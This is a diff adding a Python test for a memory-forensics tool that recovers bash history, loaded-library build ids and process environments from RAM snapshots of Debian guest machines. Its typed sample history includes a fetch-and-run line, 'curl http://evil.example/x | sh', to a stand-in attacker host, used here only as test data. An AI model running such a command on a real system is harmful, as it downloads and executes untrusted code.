@@ -1,0 +1,114 @@
+# SPDX-License-Identifier: LGPL-2.1-or-later
+"""A guest with a real bash: what was typed into it, and with which build id it runs. Each test yields
+problems."""
+
+import re
+import shutil
+import subprocess
+from pathlib import Path
+
+import guest
+import kernels
+from tool import text_bytes
+
+TYPED = ["curl http://evil.example/x | sh", "echo 'two  blanks' \\", "continued", *(
+    f"echo line {number}" for number in range(40)), "export SECRET=hunter2"]
+# bash keeps a line and what continues it as one.
+KEPT = [TYPED[0], "echo 'two  blanks' continued", *TYPED[3:]]
+# Under its own name and another one: no name of a program is believed.
+SHELLS = ("/bin/bash", "/bin/unremarkable")
+
+
+def plans(full):
+    return ["bookworm", *(["bullseye", "backports", "trixie", "sid"] if full else [])]
+
+
+def libraries(program):
+    """What the dynamic linker loads for a program of this machine; {path in the guest: path}."""
+    said = subprocess.run(["ldd", program], capture_output=True, text=True, check=True).stdout
+    return {path: path for path in re.findall(r"(/\S+) \(0x", said)}
+
+
+def build_id(path):
+    said = subprocess.run(["readelf", "-n", path], capture_output=True, text=True, check=True)
+    return re.search(r"Build ID: (\w+)", said.stdout)[1]
+
+
+class Visit:
+    """An image of a guest in which shells wait for their next line."""
+
+    def __init__(self, machine, kernel, folder):
+        self.libraries = libraries("/bin/bash")
+        typed = folder / "typed"
+        typed.write_text("".join(f"{line}\n" for line in TYPED))
+        machine.boot(kernels.get(kernel), 256, output=16, files={
+            "/typed": typed, **{shell: "/bin/bash" for shell in SHELLS}, **self.libraries})
+        self.pids = {shell: self.start(machine, shell) for shell in SHELLS}
+        machine.freeze()
+        self.image = machine.folder / "ram.img"
+        machine.copy_ram(self.image)
+
+    @staticmethod
+    def start(machine, shell):
+        """Its standard input stays open: it has read all, and waits."""
+        status, said = machine.said(
+            f"(cat /typed; exec busybox sleep 10000) 2> /dev/null | "
+            f"HISTFILE= exec {shell} --norc -i > /dev/null 2>&1 & echo $!; busybox sleep 3")
+        if status:
+            raise guest.GuestError(said)
+        return int(said)
+
+
+def history(tool, visit):
+    rows = tool.rows("history", visit.image)
+    for shell, pid in visit.pids.items():
+        listed = [row for row in rows if row["pid"] == pid and row["number"]]
+        told = [text_bytes(row, "command").decode() for row in listed]
+        if told != KEPT or [row["number"] for row in listed] != list(range(1, len(KEPT) + 1)):
+            yield f"{shell}: {told}, not {KEPT}"
+    strangers = {row["pid"] for row in rows} - set(visit.pids.values())
+    if strangers:
+        yield f"processes {strangers} have a history"
+    return f"{len(rows)} lines"
+
+
+def elf(tool, visit):
+    rows = tool.rows("elf", visit.image)
+    for shell, pid in visit.pids.items():
+        told = {row["path"]: row["build_id"] for row in rows if row["pid"] == pid}
+        vdso = told.pop("[vdso]", None)
+        wanted = {shell: build_id("/bin/bash"),
+                  **{path: build_id(path) for path in visit.libraries}}
+        if told != wanted or not vdso:
+            yield f"{shell}: {told}, not {wanted}; [vdso] is {vdso}"
+    return f"{len(rows)} files"
+
+
+def env(tool, visit):
+    """What was exported later is no part of what a process was started with."""
+    for shell, pid in visit.pids.items():
+        told = {row["name"]: row["value"] for row in tool.rows("env", visit.image, "--pid", pid)}
+        if told.get("HISTFILE") != "" or "SECRET" in told:
+            yield f"{shell}: {told}"
+
+
+TESTS = (history, elf, env)
+
+
+def check_all(session):
+    for kernel in plans(session.options.full):
+        name = f"shells-{kernel}"
+        if not any(session.results.wants(f"{name}: {test.__name__}") for test in TESTS):
+            continue
+        if not shutil.which("readelf"):
+            session.results.skip(name, "binutils are not installed")
+            continue
+        with guest.Guest(session.folder / name) as machine:
+            try:
+                visit = Visit(machine, kernel, session.folder)
+            except (guest.GuestError, kernels.FetchError) as error:
+                failure = str(error)
+                session.results.check(f"{name}: boot", lambda why=failure: iter([why]))
+                continue
+            for test in TESTS:
+                session.results.check(f"{name}: {test.__name__}", test, session.tool, visit)
